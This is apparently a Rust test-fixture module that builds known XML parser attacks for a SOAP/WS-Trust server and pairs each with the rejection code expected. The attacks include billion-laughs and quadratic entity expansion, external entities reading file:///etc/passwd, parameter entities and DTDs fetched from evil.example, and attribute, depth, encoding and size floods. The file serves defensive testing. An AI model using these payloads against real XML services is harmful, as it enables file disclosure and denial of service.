//! S50, S51, S52, WST-06: published attacks on XML readers, for the reader and for a running server.

use wstrust::REQUEST_LIMIT;

const SOAP: &str = "http://www.w3.org/2003/05/soap-envelope";

/// A message that is refused, and the code of that.
pub struct Attack {
    pub name: &'static str,
    pub message: Vec<u8>,
    pub code: &'static str,
}

fn attack(name: &'static str, message: impl Into<Vec<u8>>, code: &'static str) -> Attack {
    Attack { name, message: message.into(), code }
}

/// All of them.
pub fn attacks() -> Vec<Attack> {
    let mut all = entities();
    all.extend(floods());
    all.extend(encodings());
    all.extend(sizes());
    all
}

/// S50: nothing is expanded and nothing fetched, because no document type gets past its first letters.
fn entities() -> Vec<Attack> {
    let envelope = format!("<s:Envelope xmlns:s=\"{SOAP}\"><s:Header/><s:Body>&lol9;</s:Body></s:Envelope>");
    let laugh =
        |level: usize| format!("<!ENTITY lol{level} \"{}\">", format!("&lol{};", level - 1).repeat(10));
    let laughs = (1..10).map(laugh).collect::<String>();
    let forbidden = "message_forbidden_markup";
    vec![
        attack(
            "a billion laughs",
            format!("<!DOCTYPE lolz [<!ENTITY lol0 \"lol\">{laughs}]>{envelope}"),
            forbidden,
        ),
        attack(
            "quadratic blow-up",
            format!("<!DOCTYPE a [<!ENTITY a \"{}\">]><a>{}</a>", "x".repeat(20_000), "&a;".repeat(10_000)),
            forbidden,
        ),
        attack(
            "an external entity",
            format!("<!DOCTYPE a [<!ENTITY lol9 SYSTEM \"file:///etc/passwd\">]>{envelope}"),
            forbidden,
        ),
        attack(
            "a parameter entity",
            format!("<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://evil.example/p\"> %p;]>{envelope}"),
            forbidden,
        ),
        attack(
            "an external document type",
            format!("<!DOCTYPE a SYSTEM \"http://evil.example/\">{envelope}"),
            forbidden,
        ),
        attack("a document type behind a mark", format!("\u{FEFF}<!DOCTYPE a>{envelope}"), forbidden),
        attack("an entity that nobody declared", envelope, forbidden),
        attack("a style sheet", "<?xml-stylesheet href=\"http://evil.example/\"?><a/>", forbidden),
        attack(
            "an inclusion",
            "<x:include xmlns:x=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>",
            "message_not_soap12",
        ),
    ]
}

/// S51 (RUSTSEC-2026-0194, RUSTSEC-2026-0195): as published, which is too large to be read, and the most that fits.
fn floods() -> Vec<Attack> {
    let flood = |item: fn(usize) -> String, count: usize| {
        let items: String = (0..count).map(item).collect();
        format!("<s:Envelope xmlns:s=\"{SOAP}\"{items}/>")
    };
    let attribute = |number: usize| format!(" a{number}=\"\"");
    let same = |_: usize| " a=\"\"".to_owned();
    let declaration = |number: usize| format!(" xmlns:n{number}=\"u\"");
    let body = |inside: &str| {
        format!("<s:Envelope xmlns:s=\"{SOAP}\"><s:Header/><s:Body>{inside}</s:Body></s:Envelope>")
    };
    let bodies = |inside: &str, count: usize| body(&inside.repeat(count));
    vec![
        attack("80,000 attributes", flood(attribute, 80_000), "message_too_large"),
        attack("500,000 declarations", flood(declaration, 500_000), "message_too_large"),
        attack("as many attributes as fit", flood(attribute, 6_000), "message_too_complex"),
        attack("one attribute as often as fits", flood(same, 10_000), "message_not_well_formed"),
        attack("as many declarations as fit", flood(declaration, 3_500), "message_not_well_formed"),
        attack("as many elements as fit", bodies("<a/>", 15_000), "message_too_complex"),
        attack(
            "as deep as fits",
            format!("<s:Envelope xmlns:s=\"{SOAP}\">{}", "<a>".repeat(21_000)),
            "message_too_complex",
        ),
        attack(
            "a level too many",
            body(&format!("{}{}", "<a>".repeat(31), "</a>".repeat(31))),
            "message_too_complex",
        ),
        attack("as many comments as fit", bodies("<!---->", 9_000), "element_missing"),
        attack("as many references as fit", bodies("&#x41;", 10_000), "message_unexpected_content"),
        attack("as many sections as fit", bodies("<![CDATA[a]]>", 5_000), "message_unexpected_content"),
        attack("one name as long as fits", body(&format!("<{}/>", "a".repeat(60_000))), "element_missing"),
    ]
}

/// S52
fn encodings() -> Vec<Attack> {
    let document = format!("<s:Envelope xmlns:s=\"{SOAP}\"/>");
    let utf16 = |bytes: fn(u16) -> [u8; 2]| document.encode_utf16().flat_map(bytes).collect::<Vec<u8>>();
    let declared = |encoding: &str| format!("<?xml version=\"1.0\" encoding=\"{encoding}\"?>{document}");
    let mut marked = vec![0xFF, 0xFE];
    marked.extend(utf16(u16::to_le_bytes));
    vec![
        attack("UTF-16 with its mark", marked, "message_not_utf8"),
        // Each half of it is a character of ASCII, every other one NUL, which XML cannot carry.
        attack("UTF-16 without a mark", utf16(u16::to_be_bytes), "message_not_well_formed"),
        attack("UTF-16 that is declared", declared("utf-16"), "message_not_utf8"),
        attack("Latin 1 that is declared", declared("iso-8859-1"), "message_not_utf8"),
        attack("UTF-7 that is declared", declared("utf-7"), "message_not_utf8"),
        attack("Latin 1", b"<a>\xE9</a>".as_slice(), "message_not_utf8"),
        attack("an overlong form", b"<a>\xC0\xBC</a>".as_slice(), "message_not_utf8"),
        attack("XML 1.1", "<?xml version=\"1.1\"?><a/>", "message_forbidden_markup"),
        attack("a second root", format!("{document}{document}"), "message_not_well_formed"),
        attack("text behind the root", format!("{document}x"), "message_not_well_formed"),
        attack("nothing", "", "message_not_well_formed"),
        attack("an end without a start", "</a>", "message_not_well_formed"),
        attack(
            "an envelope that never ends",
            format!("<s:Envelope xmlns:s=\"{SOAP}\">"),
            "message_not_well_formed",
        ),
    ]
}

/// S52, WST-06: at the limit and far beyond it.
fn sizes() -> Vec<Attack> {
    let sized = |bytes: usize| {
        let (start, end) = (format!("<s:Envelope xmlns:s=\"{SOAP}\"><!--"), "--></s:Envelope>");
        format!("{start}{}{end}", " ".repeat(bytes - start.len() - end.len()))
    };
    vec![
        attack("64 KiB", sized(REQUEST_LIMIT), "element_missing"),
        attack("64 KiB and a byte", sized(REQUEST_LIMIT + 1), "message_too_large"),
        attack("10 MB", sized(10_000_000), "message_too_large"),
        attack("10 MB of nothing", vec![0; 10_000_000], "message_too_large"),
    ]
}
